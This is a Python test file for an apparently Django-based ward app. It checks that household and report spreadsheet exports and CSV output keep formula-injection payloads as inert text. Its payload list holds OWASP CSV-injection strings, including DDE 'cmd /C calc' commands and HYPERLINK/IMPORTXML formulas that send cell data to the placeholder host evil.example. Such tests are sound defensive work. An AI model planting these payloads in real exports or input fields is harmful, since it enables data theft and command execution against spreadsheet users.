"""Every spreadsheet the app writes holds data only: OWASP's CSV/formula-injection payloads stay text."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from neighborhoods.models import Division
from reporting.models import ReportExport
from tests.factories import HouseholdFactory
from tests.forms import with_token
from wardvote.spreadsheets import inert_csv_value

# OWASP "CSV Injection" payloads, and the two of the attack on the register.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "-1",
    "+1",
    "@A1",
    "＝1+2",
]


def _assert_inert(xlsx: bytes, expected: list[str]) -> None:
    """No formula anywhere in the file, and each payload is a text cell that even an edit keeps text."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(xlsx))
    expected = [value.replace("\r", "\n") for value in expected]  # XML reads a carriage return as \n
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in expected:
                    found[cell.value] = cell
    assert set(found) == set(expected)
    for value, cell in found.items():
        assert cell.data_type == "s", value
        assert cell.quotePrefix, value


def test_the_register_export_writes_every_payload_as_text(login, personas, hcm_map):
    for index, payload in enumerate(PAYLOADS):
        HouseholdFactory(
            neighborhood=hcm_map.kp1,
            code=f"P22-{index}",
            head_name=payload,
            address=payload,
            representative_name=payload,
        )
    response = login(personas.p22_ubnd).get(reverse("neighborhoods:household_export", args=[hcm_map.p22.pk]))
    _assert_inert(response.content, PAYLOADS)


def test_a_payload_in_the_household_code_is_text_too(login, personas, hcm_map):
    HouseholdFactory(neighborhood=hcm_map.kp2, code="=1+2", head_name="Nguyễn Văn An")
    response = login(personas.p22_ubnd).get(reverse("neighborhoods:household_export", args=[hcm_map.p22.pk]))
    _assert_inert(response.content, ["=1+2"])


def test_the_import_template_has_no_formula(login, personas, hcm_map):
    response = login(personas.p22_ubnd).get(
        reverse("neighborhoods:household_import_template", args=[hcm_map.p22.pk])
    )
    _assert_inert(response.content, [])


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 3))
def test_the_progress_and_statistics_report_writes_every_payload_as_text(
    start, login, personas, hcm_map, django_capture_on_commit_callbacks
):
    payloads = PAYLOADS[start : start + 3]
    for kp, payload in zip((hcm_map.kp1, hcm_map.kp2, hcm_map.kp3), payloads, strict=False):
        Division.objects.filter(pk=kp.pk).update(name=payload)
    client = login(personas.p22_ubnd)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reporting:export_create", args=[hcm_map.p22.pk]), with_token({"format": "xlsx"}))
    export = ReportExport.objects.get(format="xlsx")
    response = client.get(reverse("reporting:export_download", args=[export.pk]))
    _assert_inert(b"".join(response.streaming_content), payloads)


def test_a_csv_value_that_could_start_a_formula_is_prefixed_and_others_are_kept():
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [[inert_csv_value(p), inert_csv_value("Khu phố 1"), inert_csv_value(3)] for p in PAYLOADS]
    )
    for row, payload in zip(csv.reader(io.StringIO(buffer.getvalue())), PAYLOADS, strict=True):
        assert row == ["'" + payload, "Khu phố 1", "3"]
